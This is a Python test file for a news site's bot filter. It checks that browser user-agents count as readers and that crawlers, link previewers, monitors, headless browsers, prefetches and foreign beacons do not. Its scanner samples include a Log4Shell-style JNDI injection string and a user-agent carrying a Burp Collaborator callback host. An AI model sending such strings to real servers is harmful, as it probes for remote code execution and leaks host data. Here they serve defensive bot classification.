"""Bots, crawlers, link previewers, headless browsers and prefetches are not readers."""

from __future__ import annotations

import pytest
from newsdesk import bots
from newsdesk.bots import MAX_USER_AGENT, is_bot, is_countable, is_prefetch

# Real readers, each as observed (where from in the comment). `tests/unit/test_bot_corpora.py`
# checks thousands more; these are the ones this site's readers use most and the ones the
# lists used to reject.
READERS = [
    # Safari and Chrome on phones, Firefox, Samsung Internet (npm user-agents 2.1.198).
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
    " Version/26.6.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0"
    " Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/30.0"
    " Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    # Samsung Internet, UC Browser, Facebook's in-app browser (isbot fixtures/browsers.yml).
    "Mozilla/5.0 (Linux; Android 9; SAMSUNG SM-G960U) AppleWebKit/537.36 (KHTML, like Gecko)"
    " SamsungBrowser/10.2 Chrome/71.0.3578.99 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.4.2; zh-CN; HUAWEI MT7-TL00 Build/HuaweiMT7-TL00)"
    " AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/40.0.2214.89 UCBrowser/11.3.8.909"
    " Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 11_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
    " Gecko) Mobile/15G77 [FBAN/FBIOS;FBAV/183.0.0.41.81;FBBV/119182652;FBDV/iPhone6,2;FBMD/iPhone;"
    "FBSN/iOS;FBSV/11.4.1;FBSS/2;FBCR/VIVO;FBID/phone;FBLC/pt_BR;FBOP/5;FBRV/0]",
    "Mozilla/5.0 (Linux; Android 9; SM-G950U Build/PPR1.180610.011; wv) AppleWebKit/537.36 (KHTML,"
    " like Gecko) Version/4.0 Chrome/80.0.3987.149 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/263.0.0.46.121;]",
    # Facebook's newer Android in-app browser (crawler-user-agents' own example of "MetaIAB").
    "Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36"
    " (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook",
    # Viber's and Instagram's in-app browsers (isbot browsers.yml; crawler-user-agents).
    "Mozilla/5.0 (Linux; Android 7.1.2; G011A Build/N2G48H; wv) AppleWebKit/537.36 (KHTML, like"
    " Gecko) Version/4.0 Chrome/66.0.3359.158 Safari/537.36 Viber/11.9.5.8",
    "Mozilla/5.0 (Linux; Android 15; CPH2557 Build/AP3A.240617.008; wv) AppleWebKit/537.36 (KHTML,"
    " like Gecko) Version/4.0 Chrome/142.0.7444.142 Mobile Safari/537.36 Instagram 406.0.0.58.159"
    " Android (35/15; 480dpi; 1080x2400; OPPO; CPH2557; OP573DL1; mt6833; en_MY; 822918295;"
    " IABMV/1) NV/1",
    # Cốc Cốc and Zalo's in-app browser (ua-parser-js test/data/ua/browser/browser-all.json).
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " coc_coc_browser/124.0.144 Chrome/118.0.5993.144 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_3) AppleWebKit/537.36 (KHTML, like Gecko)"
    " coc_coc_browser/78.0.129 Chrome/72.0.3626.129 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; Vsmart Live Build/QKQ1.190918.001; wv) AppleWebKit/537.36"
    " (KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 Mobile Safari/537.36 Zalo/20.04.02.r1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 13_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
    " Gecko) Zalo/20.05.01 Mobile/15E148",
    # Zalo on Android as a reader's visit log recorded it (a public repository's SQL dump).
    "Mozilla/5.0 (Linux; Android 11; RMX1973 Build/RKQ1.201217.002;) AppleWebKit/537.36 (KHTML,"
    " like Gecko) Version/4.0 Chrome/143.0.7499.146 Mobile Safari/537.36 Zalo android/25122880"
    " ZaloTheme/dark ZaloLanguage/vi",
    # Phones whose model name is a bot word (isbot fixtures/downloaded/myip.ms.json and
    # user-agents.net.json, lists of "bots" that hold them; a Go bot filter's list of false
    # positives for XBot Junior and M_bot_tab).
    "Mozilla/5.0 (Linux; Android 6.0; VR BOT 552 PLUS Build/MRA58K) AppleWebKit/537.36 (KHTML, like"
    " Gecko) Chrome/69.0.3497.100 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 6.0; VR BOT 552) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/70.0.3538.80 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior Build/O11019; wv) AppleWebKit/537.36 (KHTML,"
    " like Gecko) Version/4.0 Chrome/65.0.3325.109 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 7.1.2; M_bot_tab_71 Build/NHG47K) AppleWebKit/537.36 (KHTML, like"
    " Gecko) Chrome/69.0.3497.100 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 4.4.4; Spider Build/KTU84Q) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Version/4.0 Chrome/33.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.2.2; fa-ir; GLX SpiderI Build/JDQ39) AppleWebKit/534.30"
    " (KHTML like Gecko) Version/4.0 Mobile Safari/534.30",
    # Cronet (Chrome's network stack) in a TV/VR app: crawlerdetect's "cron" (a public
    # repository's YouTube VR client, copied from the app).
    "com.google.android.apps.youtube.vr.oculus/1.43.32 (Linux; U; Android 12; en_US; Quest 3;"
    " Build/SQ3A.220605.009.A1; Cronet/107.0.5284.2)",
    # Text browsers (isbot browsers.yml).
    "Lynx/2.8.9rel.1 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.6.5",
    "Links (2.1pre23; Linux 3.5.0 i686; 237x63)",
    # The DuckDuckGo browser (isbot browsers.yml), while the app's own requests are not.
    "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0"
    " Chrome/84.0.4147.111 Mobile DuckDuckGo/5 Safari/537.36",
]

# Bots, each as observed: link previewers of the messengers readers share links with, and the
# families the lists used to miss (issue 13).
BOTS = [
    # Previewers: Facebook and Messenger, Zalo, Telegram, Viber, WhatsApp, Bluesky, Discord,
    # Slack, X/Twitter, LinkedIn (ua-parser-js fetcher.json and crawler.json; crawler-user-
    # agents instances; Zalo does not publish its fetcher's string: the form previewers use,
    # as listed by a public repository's tests, with its info URL).
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "meta-externalfetcher/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "Mozilla/5.0 (compatible; Zalo/1.0; +https://zalo.me)",
    "TelegramBot (like TwitterBot)",
    "Viber",
    "WhatsApp/2.23.20.0",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Bluesky Cardyb/1.1;"
    " +mailto:support@bsky.app) Chrome/100.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Slack-ImgProxy 0.19 (+https://api.slack.com/robots)",
    "Twitterbot/1.0",
    "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    # Search crawlers.
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    # AI crawlers and agents with short strings (ua-parser-js; isbot crawlers.yml).
    "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "meta-externalads/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    "Perplexity-User/1.0",
    "anthropic-ai",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-User/1.0;"
    " +Claude-User@anthropic.com)",
    # Google's special-case fetchers (ua-parser-js crawler.json and fetcher.json).
    "Mozilla/5.0 (compatible; Google-InspectionTool/1.0;)",
    "Google-Safety",
    "Google-NotebookLM",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.118"
    " Safari/537.36 (compatible; Google-Read-Aloud; +https://support.google.com/webmasters/answer/1061943)",
    # Monitors (isbot crawlers.yml; Crawler-Detect's tests for Route 53 and Datadog).
    "Mozilla/5.0 (Linux; U; Android 4.0.2; en-us; Catchpoint) AppleWebKit/534.30 (KHTML, like Gecko)"
    " Version/4.0 Mobile Safari/534.30",
    "Mozilla/5.0 (X11; Linux x86_64; Rigor) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/80.0.3987.106 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/106.0.0.0"
    " Safari/537.36 PTST/SpeedCurve/230120.120134",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.114"
    " Safari/537.36 DatadogSynthetics",
    "Amazon-Route53-Health-Check-Service (ref c96ad03c-acdf-48c6-8ec7-45806bf08123; report"
    " http://amzn.to/1vsZADi)",
    # Scanners (isbot downloaded/myip.ms.json; isbot crawlers.yml "Burp Collaborator Scanner").
    "${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.fun}",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87"
    " Safari/537.36 root@8f6gtjctw9glvnasfrq438tprig56wty20ghwkf9.burpcollaborator.net",
    # Automation and headless browsers (isbot crawlers.yml; myip.ms.json).
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/120.0.0.0 Safari/537.36 Playwright/1.40.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/120.0.0.0 Safari/537.36; Selenium",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0"
    " Safari/537.36",
    # HTTP libraries and apps' own requests.
    "curl/8.5.0",
    "python-requests/2.32.3",
    "DuckDuckGo/5 (com.duckduckgo.mobile.android; android api 33)",
    # Junk (isbot crawlers.yml; the examples).
    "My User Agent 1.0",
    "123",
    "U2FsdGVkX1+uKxeH2946/bMTDvtm/Fr0nWjvFR/oPtc64LSh1Gg0qkbJUIhLpSw5h/mjF86TFOXrl4U2SG1KBi4BC0E",
    "Mozilla/5.0 (Windows NT 10.0)\tAppleWebKit",
    "",
    "   ",
]


@pytest.mark.parametrize("ua", READERS)
def test_browsers_are_readers(ua: str) -> None:
    assert bots.explain(ua) is None
    assert not is_bot(ua)
    assert is_countable({"user-agent": ua})


@pytest.mark.parametrize("ua", BOTS)
def test_bots_are_not_counted(ua: str) -> None:
    assert is_bot(ua)
    assert bots.explain(ua) is not None
    assert not is_countable({"user-agent": ua})


def test_a_bot_word_in_a_phone_model_is_no_evidence_but_a_named_bot_is() -> None:
    """Only the catch-all bot words are discounted in an Android browser's model field;
    a monitor that names itself there (Catchpoint) is still a bot."""
    phone = next(r for r in READERS if "VR BOT 552)" in r)
    assert not is_bot(phone)
    assert is_bot(phone.replace("VR BOT 552", "Catchpoint"))
    assert is_bot(phone + " (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")


def test_missing_user_agent_is_not_counted() -> None:
    assert not is_countable({})


@pytest.mark.parametrize(
    "headers",
    [
        {"sec-purpose": "prefetch"},
        {"sec-purpose": "prefetch;prerender"},
        {"purpose": "prefetch"},
        {"x-moz": "prefetch"},
        {"x-purpose": "preview"},
    ],
)
def test_prefetches_are_not_counted(headers: dict[str, str]) -> None:
    assert is_prefetch(headers)
    assert not is_countable({"user-agent": READERS[0], **headers})


def test_only_user_agents_up_to_the_limit_reach_the_lists(monkeypatch: pytest.MonkeyPatch) -> None:
    """A longer User-Agent is a bot by its length alone and never reaches the lists, so no
    input costs more than MAX_USER_AGENT characters of matching (scripts/bench_bots.py times
    it). Counted, not timed."""
    asked: list[int] = []

    class Spy:
        def matches(self, user_agent: str) -> bool:
            asked.append(len(user_agent))
            return False

    monkeypatch.setattr(bots, "_matcher", Spy)
    bots._decisions.clear()
    browser = READERS[0]
    at_limit = browser + "a" * (MAX_USER_AGENT - len(browser))
    assert not is_bot(at_limit)
    assert is_bot(at_limit + "a")
    assert is_bot("Mozilla/5.0 " + "a" * 10_000)
    assert asked == [MAX_USER_AGENT]


def test_a_user_agent_is_judged_once_per_container(monkeypatch: pytest.MonkeyPatch) -> None:
    """The decision is cached: a reader's heartbeat every minute costs a lookup."""
    asked: list[str] = []

    class Spy:
        def matches(self, user_agent: str) -> bool:
            asked.append(user_agent)
            return user_agent.startswith("Bot")

    monkeypatch.setattr(bots, "_matcher", Spy)
    bots._decisions.clear()
    for _ in range(3):
        assert not is_bot(READERS[0])
        assert is_bot("Bot/1.0 (x)")
    assert asked == [READERS[0], "Bot/1.0 (x)"]
    bots._decisions.clear()


@pytest.mark.parametrize(
    ("body", "counted"),
    [
        (None, True),
        ({}, True),
        ({"webdriver": False}, True),
        ({"webdriver": "true"}, True),  # only the page script's own JSON true
        ({"webdriver": True}, False),
    ],
)
def test_a_browser_driven_by_automation_is_not_counted(
    body: dict[str, object] | None, counted: bool
) -> None:
    """The page script sends {"webdriver": true} with the beacon and the heartbeat when
    navigator.webdriver is true (Selenium, Playwright, Puppeteer)."""
    headers = {"user-agent": READERS[0], **OWN_SCRIPT}
    assert is_countable(headers, bots.SCRIPT, body) is counted
    assert bots.reports_automation(body) is not counted


def test_the_page_script_reports_webdriver_with_its_beacon_and_heartbeat() -> None:
    """templates/widget.js: every POST the script makes carries the flag when it is set."""
    from tests.support import ROOT

    script = (ROOT / "templates" / "widget.js").read_text(encoding="utf-8")
    assert "navigator.webdriver" in script
    assert "JSON.stringify({ webdriver: true })" in script
    assert script.count("fetch(") == 1 and "body: automated" in script


# Fetch Metadata as Chromium and Firefox send it (W3C "Fetch Metadata Request Headers").
NAVIGATION = {"sec-fetch-dest": "document", "sec-fetch-mode": "navigate", "sec-fetch-site": "none"}
LINK_FROM_SEARCH = {**NAVIGATION, "sec-fetch-site": "cross-site", "sec-fetch-user": "?1"}
PAGE_FETCH = {"sec-fetch-dest": "empty", "sec-fetch-mode": "cors", "sec-fetch-site": "same-origin"}
CROSS_SITE_IMAGE = {
    "sec-fetch-dest": "image",
    "sec-fetch-mode": "no-cors",
    "sec-fetch-site": "cross-site",
}
IFRAME = {"sec-fetch-dest": "iframe", "sec-fetch-mode": "navigate", "sec-fetch-site": "cross-site"}
OWN_SCRIPT = PAGE_FETCH
OTHER_SITE_SCRIPT = {**PAGE_FETCH, "sec-fetch-site": "cross-site"}
SAME_SITE_SCRIPT = {**PAGE_FETCH, "sec-fetch-site": "same-site"}


@pytest.mark.parametrize(
    ("headers", "counted"),
    [
        ({}, True),  # a browser without Fetch Metadata: judged by the other rules
        (NAVIGATION, True),
        (LINK_FROM_SEARCH, True),
        (PAGE_FETCH, False),  # a page's own fetch('/articles/<slug>')
        (CROSS_SITE_IMAGE, False),  # <img src=".../articles/<slug>"> on another site
        (IFRAME, False),  # the article framed by another page
    ],
)
def test_a_page_view_counts_only_when_the_page_is_opened(
    headers: dict[str, str], counted: bool
) -> None:
    assert is_countable({"user-agent": READERS[0], **headers}, bots.PAGE) is counted


@pytest.mark.parametrize(
    ("headers", "counted"),
    [
        ({}, True),
        (OWN_SCRIPT, True),  # the widget's fetch / sendBeacon from the page
        (OTHER_SITE_SCRIPT, False),  # another site's script posting beacons
        (SAME_SITE_SCRIPT, False),  # another origin of the same site
        (NAVIGATION, False),  # a form or a typed URL is not the script
    ],
)
def test_a_beacon_or_heartbeat_counts_only_from_the_pages_own_script(
    headers: dict[str, str], counted: bool
) -> None:
    assert is_countable({"user-agent": READERS[0], **headers}, bots.SCRIPT) is counted


def test_the_cdn_forwards_every_header_the_counting_rules_read() -> None:
    """Behind CloudFront (EnableCdn) only the origin request policy's headers reach the
    functions: a rule reading a header that is not forwarded silently never applies."""
    from local.tables import load_template
    from tests.support import ROOT

    policy = load_template(ROOT / "template.yaml")["Resources"]["ViewerOriginRequestPolicy"]
    config = policy["Properties"]["OriginRequestPolicyConfig"]["HeadersConfig"]
    forwarded = {name.lower() for name in config["Headers"]}
    read = {"user-agent", *bots._PREFETCH_HEADERS, *(h for r in bots._EXPECTED.values() for h in r)}
    assert read <= forwarded, f"not forwarded by the CDN: {sorted(read - forwarded)}"
    assert len(config["Headers"]) <= 10  # CloudFront's quota of headers per policy


def test_the_shipped_lists_are_what_the_pinned_lists_make() -> None:
    """newsdesk/bot_lists.json (read at run time, checked in) is exactly what
    scripts/bot_lists.py makes from the installed crawlerdetect and crawler-user-agents (the
    versions pinned in layers/dependencies/requirements.txt) and its hand-made lists: a
    version bump or an edit there without regenerating the file fails here."""
    import json
    from importlib.metadata import version

    from scripts import bot_lists

    shipped = bots.DATA_FILE.read_text(encoding="utf-8")
    assert shipped == bot_lists.generate(), "stale: run .venv/bin/python scripts/bot_lists.py"
    sources = json.loads(shipped)["sources"]
    assert sources == {name: version(name) for name in bot_lists.LISTS}


def test_an_exemption_takes_its_characters_from_a_bot_word_inside_it() -> None:
    """The shipped table keeps crawlerdetect's exclusions: "cubot" (a phone maker) holds the
    catch-all's "bot", and a phone of that make is a reader while a "...bot/1.0" is not."""
    cubot = (
        "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko)"
        " Chrome/86.0.4240.185 Mobile Safari/537.36"
    )
    assert not is_bot(cubot)
    assert is_bot(cubot.replace("CUBOT X30", "K") + " Examplebot/1.0")
